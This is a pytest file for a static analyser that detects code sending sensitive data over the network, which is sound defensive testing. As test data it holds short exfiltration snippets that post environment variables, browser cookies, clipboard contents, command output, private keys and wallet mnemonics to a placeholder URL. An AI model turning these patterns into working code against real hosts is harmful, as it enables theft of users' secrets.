"""Sensitive data that is sent over the network is detected."""

import pytest

from features.code.analyse_file import analyse_file
from features.contract import Role
from tests.features.code.conftest import INNER, matched_rules

CASES = [
    ("environment_to_network", "import os, requests\nrequests.post(u, json=dict(os.environ))", "import os, requests\nrequests.post(u, json={})\nos.environ['A']"),
    ("environment_to_network", "from os import environ as e\nimport requests\nd = {'k': e.get('KEY')}\nrequests.post(u, data=d)", "import requests\nd = {'k': 1}\nrequests.post(u, data=d)"),
    ("host_to_network", "import socket, urllib.request\nh = socket.gethostname()\nurllib.request.urlopen(f'http://a.example.invalid/{h}')", "import urllib.request\nurllib.request.urlopen('http://a.example.invalid/')"),
    ("file_to_network", "import requests\nrequests.post(u, files={'f': open('x', 'rb')})", "import requests\nrequests.post(u)"),
    ("secrets_to_network", "import browser_cookie3, requests\nc = list(browser_cookie3.load())\nrequests.post(u, data=c)", "import browser_cookie3\nbrowser_cookie3.load()"),
    ("spying_to_network", "import pyperclip, requests\nrequests.post(u, data=pyperclip.paste())", "import pyperclip\npyperclip.paste()"),
    ("process_to_network", "import subprocess, requests\nrequests.post(u, data=subprocess.check_output('id'))", "import subprocess\nsubprocess.check_output('id')"),
    ("decoded_address", f"import requests, base64\nrequests.get(base64.b64decode('{INNER}').decode())", "import requests, base64\nrequests.get(base64.b64encode(x))"),
    ("silent_network", "import requests\ntry:\n    requests.get(u)\nexcept Exception:\n    pass", "import requests\ntry:\n    requests.get(u)\nexcept Exception:\n    raise"),
    ("keys_to_network", "import requests\ndef f(private_key):\n    requests.post(u, json={'k': private_key})", "import requests\ndef f(public_key):\n    requests.post(u, json={'k': public_key})"),
    ("keys_to_network", "import requests\nd = {'m': wallet.mnemonic}\nrequests.post(u, json=d)", "import requests\nd = {'m': wallet.address}\nrequests.post(u, json=d)"),
]  # fmt: skip
"""Rule, an inert look-alike that matches it, a benign twin that does not."""


@pytest.mark.parametrize(("rule", "look_alike", "twin"), CASES)
def test_a_rule_matches_the_look_alike_and_not_its_twin(rule, look_alike, twin):
    assert rule in matched_rules(look_alike)
    assert rule not in matched_rules(twin)


def weight(source: str, rule: str) -> float:
    return max(
        location.weight for location in analyse_file(source.encode(), Role.REST).locations if location.id == rule
    )


def test_an_address_from_the_environment_weighs_less_where_nothing_is_posted():
    got = weight("import os, requests\nrequests.get(os.environ['URL'])", "environment_to_network")
    posted = weight("import os, requests\nrequests.post(os.environ['URL'])", "environment_to_network")
    assert got == pytest.approx(0.7 * posted)


@pytest.mark.parametrize("option", ["timeout", "verify", "stream", "proxies"])
def test_options_of_a_request_are_not_sent(option):
    assert "environment_to_network" not in matched_rules(
        f"import os, requests\nrequests.post(u, {option}=os.environ['OPTION'])"
    )


def test_headers_carry_files_and_no_keys():
    source = "import requests\nrequests.post(u, headers={'k': private_key, 'f': open(p).read()})"
    assert "file_to_network" in matched_rules(source)
    assert "keys_to_network" not in matched_rules(source)


def test_a_key_in_a_message_counts_and_in_a_lookup_does_not():
    assert "keys_to_network" in matched_rules("import telegram\ntelegram.Bot(t).send_message(c, mnemonic)")
    assert "keys_to_network" not in matched_rules("import socket\nsocket.gethostbyname(mnemonic)")
